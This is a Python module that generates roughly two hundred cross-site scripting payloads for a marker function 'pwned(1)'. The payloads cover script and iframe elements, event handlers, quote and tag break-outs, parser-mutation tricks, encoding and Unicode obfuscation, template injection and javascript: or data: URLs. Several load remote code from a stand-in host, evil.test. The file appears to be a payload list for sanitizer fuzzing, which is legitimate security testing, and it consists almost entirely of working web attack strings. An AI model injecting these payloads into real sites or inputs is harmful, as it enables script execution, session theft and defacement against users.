"""Two hundred ways to bring a script into a page: by element, attribute, address, parser, encoding and template."""

from __future__ import annotations

from itertools import product

RUN = "pwned(1)"

ELEMENTS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script/x>{RUN}</script>",
    f"<script\n>{RUN}</script\n>",
    f"<script>{RUN}//",
    "<script src=//evil.test/x.js></script>",
    "<script src=data:text/javascript,pwned(1)></script>",
    f"<script type=module>{RUN}</script>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned(1)'>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<link rel=import href=//evil.test/>",
    "<object data=javascript:pwned(1)>",
    "<embed src=javascript:pwned(1)>",
    "<iframe src=javascript:pwned(1)></iframe>",
    f'<iframe srcdoc="<script>{RUN}</script>">',
    "<form action=javascript:pwned(1)><button>x",
    "<button formaction=javascript:pwned(1)>x",
    "<a href=javascript:pwned(1)>x</a>",
    "<a href='java\tscript:pwned(1)'>x</a>",
    "<a href='java\u200bscript:pwned(1)'>x</a>",
    "<a href='&#106;avascript:pwned(1)'>x</a>",
    "<a href=data:text/html,<script>pwned(1)</script>>x</a>",
    "<style>@import'//evil.test/x.css';</style>",
    "<style>*{background:url(//evil.test/x)}</style>",
    "<noscript><p title='</noscript><img src=x onerror=pwned(1)>'>",
    "<template><script>pwned(1)</script></template>",
    "<portal src=//evil.test>",
    "<marquee onstart=pwned(1)>x",
]

TAGS = ["img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open", "math", "x", "p"]
HANDLERS = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onpointerenter", "onanimationstart", "onclick"]
HANDLED = [f"<{tag} {handler}={RUN}>" for tag, handler in product(TAGS, HANDLERS)]

QUOTES = ['"', "'", "`", '">', "'>", "</textarea>", "</title>", "-->", "]]>", "</script>", "</style>", "</select>"]
TAILS = ["<img src=x onerror=pwned(1)>", " onfocus=pwned(1) autofocus x=", "<svg/onload=pwned(1)>"]
BROKEN_OUT = [quote + tail for quote, tail in product(QUOTES, TAILS)]

MUTATED = [
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=pwned(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=pwned(1)>'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=pwned(1)></annotation-xml></math>",
    "<svg><foreignObject><img src=x onerror=pwned(1)></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned(1)>#x'>",
    "<svg><animate onbegin=pwned(1) attributeName=x dur=1s>",
    "<svg><script>pwned(1)</script></svg>",
    "<svg><a xlink:href=javascript:pwned(1)><text>x",
    "<select><style></select><img src=x onerror=pwned(1)></style>",
    "<table><td><form><p></form><img src=x onerror=pwned(1)>",
    "<!--><img src=x onerror=pwned(1)>-->",
    "<![CDATA[><img src=x onerror=pwned(1)>]]>",
    "<?xml ?><img src=x onerror=pwned(1)?>",
    "<xmp><p title='</xmp><img src=x onerror=pwned(1)>'>",
    "<plaintext><img src=x onerror=pwned(1)>",
    "<a id=attributes><a id=attributes name=innerHTML>",
    "<form id=document><input name=cookie>",
    "<img name=getElementById>",
]

WRITTEN_OTHERWISE = [
    "&lt;script&gt;pwned(1)&lt;/script&gt;",
    "&#60;script&#62;pwned(1)&#60;/script&#62;",
    "%3Cscript%3Epwned(1)%3C/script%3E",
    "\\u003cscript\\u003epwned(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3epwned(1)\\x3c/script\\x3e",
    "+ADw-script+AD4-pwned(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1epwned(1)\uff1c/script\uff1e",
    "<\u017fcript>pwned(1)</\u017fcript>",
    "<img src=x\u3000onerror=pwned(1)>",
    "<img/src=x/onerror=pwned(1)>",
    "<img src='x'onerror='pwned(1)'>",
    "<img src=x onerror\u2028=pwned(1)>",
    "\u202e<img src=x onerror=pwned(1)>",
    "<\u0130mg src=x onerror=pwned(1)>",
]

TEMPLATES = [
    "{{7*7}}",
    "{{constructor.constructor('pwned(1)')()}}",
    "{% raw %}<script>pwned(1)</script>{% endraw %}",
    "${pwned(1)}",
    "#{pwned(1)}",
    "<%= pwned(1) %>",
    "[[${pwned(1)}]]",
    "{{''.__class__.__mro__}}",
    "%(pwned)s",
    "{pwned}",
    "$&<script>pwned(1)</script>",
]

ADDRESSES = [
    "javascript:pwned(1)",
    "JaVaScRiPt:pwned(1)",
    "//evil.test/",
    "/\\evil.test/",
    "https://evil.test/",
    "data:text/html,<script>pwned(1)</script>",
    "vbscript:pwned(1)",
    "\\\\evil.test\\x",
    "/%2f/evil.test",
    "/\tjavascript:pwned(1)",
    "javascript://%0apwned(1)",
]

PAYLOADS = [*ELEMENTS, *HANDLED, *BROKEN_OUT, *MUTATED, *WRITTEN_OTHERWISE, *TEMPLATES, *ADDRESSES]
